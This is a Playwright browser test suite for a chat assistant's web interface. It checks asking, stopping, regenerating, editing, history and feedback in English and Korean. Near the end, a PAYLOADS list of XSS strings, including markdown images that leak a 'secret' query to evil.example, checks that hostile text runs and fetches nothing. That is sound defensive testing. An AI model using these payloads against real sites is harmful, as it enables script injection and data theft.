"""Chat in a real browser: ask, stop, regenerate, correct, and find it all again."""

import re
from contextlib import closing
from typing import Any

import pytest

from assistant.store import Store
from tests.e2e.conftest import close_viewer

pytestmark = pytest.mark.browser
sync_api = pytest.importorskip("playwright.sync_api")
expect = sync_api.expect

ENGLISH = "How much is parking?"
KOREAN = "주차 요금은 얼마예요?"


def _ask(page: Any, text: str) -> Any:
    page.locator("#composer textarea").fill(text)
    page.locator("#composer textarea").press("Enter")
    answer = page.locator("#thread .assistant .foot").last
    answer.wait_for()
    return page.locator("#thread .assistant").last


@pytest.mark.parametrize(("language", "question"), [("en", ENGLISH), ("ko", KOREAN)])
def test_a_question_is_answered_with_sources_and_a_receipt(visit: Any, language: str, question: str) -> None:
    page = visit(language).open()
    assert page.url.endswith(f"/{language}/") and page.locator("html").get_attribute("lang") == language
    expect(page.locator(".example")).to_have_count(3)
    answer = _ask(page, question)
    expect(page.locator("#thread .user .said")).to_have_text(question)
    expect(page.locator("#composer textarea")).to_have_value("")
    expect(answer.locator(".source").first).to_be_visible()
    expect(answer.locator(".foot .variant")).to_contain_text("rag")
    answer.locator("[data-local=receipt]").click()
    expect(answer.locator(".receipt")).to_contain_text("scripted@")
    expect(page.locator("#chats .chat.on a")).to_have_text(question)
    expect(page).to_have_url(re.compile(r"\?c=[0-9a-f]{16}$"))


def test_a_source_opens_at_its_place(visit: Any) -> None:
    page = visit().open()
    _ask(page, ENGLISH).locator(".source").first.click()
    expect(page.locator("#viewer mark")).to_be_in_viewport()
    close_viewer(page)
    expect(page.locator("#viewer aside")).to_be_hidden()
    page.locator("#thread .source").first.click()
    expect(page.locator("html.show-viewer")).to_have_count(1)
    page.locator("#page-documents-button").click()
    expect(page.locator("html.show-viewer")).to_have_count(0)  # it would lie over the page that was opened


def test_escape_stops_and_retry_answers(visit: Any) -> None:
    page = visit().open()
    page.locator("#composer textarea").fill("Please count for me")
    page.keyboard.press("Enter")
    expect(page.locator("#live .said")).to_contain_text("7")
    page.keyboard.press("Escape")
    answer = page.locator("#thread .assistant").last
    expect(answer.locator(".notes")).to_contain_text("Stopped")
    expect(answer.locator(".retry")).to_be_visible()
    expect(page.locator("#send")).to_be_visible()
    expect(page.locator("#live .turn")).to_have_count(0)


def test_answering_again_keeps_both(visit: Any) -> None:
    page = visit().open()
    answer = _ask(page, ENGLISH)
    answer.locator("[data-act=regenerate]").click()
    expect(page.locator("#thread .siblings")).to_contain_text("2/2")
    page.locator("#thread .siblings [data-act=branch]").first.click()
    expect(page.locator("#thread .siblings")).to_contain_text("1/2")


def test_an_edited_question_keeps_the_first_one_beside_it(visit: Any) -> None:
    page = visit().open()
    _ask(page, ENGLISH)
    page.locator("#thread .user").hover()
    page.locator("#thread .user [data-local=form]").click()
    page.locator("#thread .user textarea").fill("Where are the lockers?")
    page.keyboard.press("Control+Enter")
    expect(page.locator("#thread .user .siblings")).to_contain_text("2/2")
    expect(page.locator("#thread .user .said")).to_have_text("Where are the lockers?")
    expect(page.locator("#chats .chat.on > a")).to_have_text("Where are the lockers?")
    page.locator("#thread .assistant .foot").wait_for()
    page.locator("#thread .user [data-act=branch]").first.click()
    expect(page.locator("#thread .user .said")).to_have_text(ENGLISH)
    expect(page.locator("#thread .assistant")).to_have_count(1)


def test_an_answer_goes_on_without_its_tab_and_any_tab_stops_it(visit: Any) -> None:
    person = visit()
    page = person.open()
    page.locator("#composer textarea").fill("Please count while I am away")
    page.keyboard.press("Enter")
    expect(page.locator("#live .said")).to_contain_text("5")
    expect(page).to_have_url(re.compile(r"\?c="))
    address = page.url
    written = len(page.locator("#live .said").inner_text())
    page.close()
    again = person.context.new_page()
    again.goto(address)
    expect(again.locator("#live .said")).to_contain_text("15")
    assert len(again.locator("#live .said").inner_text()) > written
    other = person.context.new_page()
    other.goto(address)
    other.locator("#stop").click()
    for tab in (again, other):
        expect(tab.locator("#thread .assistant .notes")).to_contain_text("Stopped")
        expect(tab.locator("#live .turn")).to_have_count(0)


def test_two_tabs_on_one_chat_show_the_same(visit: Any) -> None:
    person = visit()
    page = person.open()
    _ask(page, ENGLISH)
    other = person.context.new_page()
    other.goto(page.url)
    other.locator("#thread .assistant .foot").wait_for()
    _ask(other, "Where are the lockers?")
    expect(page.locator("#thread .user .said")).to_have_text([ENGLISH, "Where are the lockers?"])
    expect(page.locator("#thread .assistant .foot")).to_have_count(2)
    expect(page.locator("#send")).to_have_text("Send")


def test_a_chat_is_found_opened_and_renamed_by_keyboard(visit: Any) -> None:
    page = visit().open()
    _ask(page, "Rename me by keyboard")
    page.locator("#new-chat").click()
    expect(page.locator(".welcome")).to_be_visible()
    page.keyboard.press("Control+k")
    page.keyboard.type("by keyboard")
    expect(page.locator("#chats .chat")).to_have_count(1)
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    expect(page.locator("#thread .user .said")).to_have_text("Rename me by keyboard")
    page.locator("#chats .chat > a").focus()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.keyboard.type("My keyboard by chat")
    page.keyboard.press("Enter")
    page.locator("#search-chats input").fill("")
    expect(page.locator("#chats .chat.on > a")).to_have_text("My keyboard by chat")


def test_correction_and_thumb_are_kept(visit: Any, server: Any) -> None:
    page = visit("ko").open()
    answer = _ask(page, KOREAN)
    message = str(answer.get_attribute("data-message"))
    answer.locator("[data-local=form]").click()
    field = answer.locator("textarea")
    field.fill(f"{field.input_value()} 처음 30분은 무료예요")
    expect(answer.locator(".own-form ins")).to_have_text(["처음", "30분은", "무료예요"])
    field.fill("처음 30분은 무료예요")
    answer.locator("[data-act=save]").click()
    expect(page.locator("#thread .correction")).to_contain_text("학습 예시로 저장했어요")
    page.locator("#thread [data-act=kept]").click()
    expect(page.locator("#viewer .document")).to_contain_text("처음 30분은 무료예요")
    page.keyboard.press("Escape")
    page.locator("#thread [data-act=up]").click()
    expect(page.locator("#thread [data-act=up]")).to_have_attribute("aria-pressed", "true")
    store = Store(server.home / "joyul.sqlite")
    try:
        kept = store.feedback(message)
    finally:
        store.close()
    assert [(each.kind, each.text) for each in kept] == [("edit", "처음 30분은 무료예요"), ("up", "")]


def test_history_survives_refresh_and_new_chat(visit: Any) -> None:
    page = visit().open()
    _ask(page, "Where are the lockers?")
    page.reload()
    expect(page.locator("#thread .user .said")).to_have_text("Where are the lockers?")
    page.locator("#new-chat").click()
    expect(page.locator(".welcome")).to_be_visible()
    expect(page).to_have_url(re.compile(r"/en/$"))
    page.locator("#chats .chat a", has_text="Where are the lockers?").first.click()
    expect(page.locator("#thread .user .said")).to_have_text("Where are the lockers?")
    page.locator("#search-chats input").fill("no such words")
    expect(page.locator("#chats .nothing")).to_be_visible()


def test_a_conversation_is_deleted_on_the_second_click(visit: Any) -> None:
    page = visit().open()
    _ask(page, "Delete me soon")
    row = page.locator("#chats .chat", has_text="Delete me soon")
    row.hover()
    row.locator(".remove").click()
    expect(row.locator(".remove")).to_have_text("Delete?")
    row.locator(".remove").click()
    expect(row).to_have_count(0)
    expect(page.locator(".welcome")).to_be_visible()


def test_what_was_sent_survives_kill(visit: Any, server: Any) -> None:
    first = visit()
    page = first.open()
    page.locator("#composer textarea").fill("Please count until you are killed")
    page.keyboard.press("Enter")
    expect(page.locator("#live .said")).to_contain_text("3")
    expect(page).to_have_url(re.compile(r"\?c="))
    address = page.url.removeprefix(server.url)
    page.goto("about:blank")
    server.kill()
    server.start()
    first.problems.clear()  # a page whose server is killed may say so
    page = visit().open(address)
    expect(page.locator("#thread .user .said")).to_have_text("Please count until you are killed")
    expect(page.locator("#thread .assistant .notes")).to_be_visible()


PAYLOADS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1> ![x](https://evil.example/y.png)",
    "<svg><style><img src=x onerror=window.hit=1></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "[x](javascript:window.hit=1) [y](data:text/html;base64,PHNjcmlwdD4=) <javascript:window.hit=1>",
    "![a](https://evil.example/?q=secret) [![b](https://evil.example/c.png)](https://evil.example)",
    "\"><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href=https://evil.example onmouseover=window.hit=1 style=position:fixed;inset:0>x</a>",
    "<link rel=stylesheet href=//evil.example/a.css><base href=//evil.example/><meta http-equiv=refresh content=0>",
    "```html\n</code></pre><script>window.hit=1</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=window.hit=1> |",
    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} %3Cscript%3E",
    "\u202e<x onclick=window.hit=1>\u2066 &lt;script&gt;window.hit=1&lt;/script&gt;",
]


def test_hostile_text_runs_nothing_and_fetches_nothing(visit: Any, server: Any) -> None:
    page = visit().open()
    page.locator("#variant input").click()
    page.get_by_role("option", name="zero-shot", exact=False).first.click()
    for number, payload in enumerate(PAYLOADS):  # as a question, an answer that repeats it, and a title
        page.locator("#composer textarea").fill("echo " + payload)
        page.keyboard.press("Enter")
        page.locator("#thread .assistant .foot").nth(number).wait_for()
    assert page.evaluate("window.hit") is None
    made = "img, script, iframe, svg:not(.j-icon), style, link, base, form, math, [onerror], [onclick], [onmouseover]"
    assert page.locator("#thread, #chats").locator(made).count() == 0
    assert page.locator("#thread a:not([href^=http])").count() == 0
    page.locator("#thread .user [data-local=form]").first.evaluate("button => button.click()")
    page.locator("#thread .assistant [data-local=form]").first.evaluate("button => button.click()")
    assert page.evaluate("window.hit") is None


@pytest.mark.parametrize(("width", "language"), [(1280, "en"), (390, "ko")])
def test_a_thumb_may_say_why(visit: Any, server: Any, width: int, language: str) -> None:
    page = visit(language, viewport={"width": width, "height": 800}).open()
    _ask(page, ENGLISH)
    page.locator("#thread [data-act=down]").click()
    why = page.locator("#thread .why")
    why.locator("input").fill("the hours are others #hours")
    assert page.evaluate("document.documentElement.scrollWidth") == width
    why.locator("[data-reason=wrong]").click()
    said = page.locator("#thread .why-said")
    expect(said).to_contain_text("the hours are others")
    expect(said).to_contain_text("#hours")
    expect(why).to_have_count(0)
    answer = page.locator("#thread .assistant").get_attribute("data-message")
    with closing(Store(server.home / "joyul.sqlite")) as store:
        kept = store.feedback(answer)[-1]
    assert (kept.kind, kept.reason, kept.text, kept.tags) == ("down", "wrong", "the hours are others", ["hours"])


def test_a_thumb_alone_is_enough(visit: Any) -> None:
    page = visit("en").open()
    _ask(page, ENGLISH)
    page.locator("#thread [data-act=up]").click()
    page.locator("#thread .why input").press("Escape")
    expect(page.locator("#thread .why")).to_be_hidden()
    expect(page.locator("#thread [data-act=up]")).to_have_attribute("aria-pressed", "true")
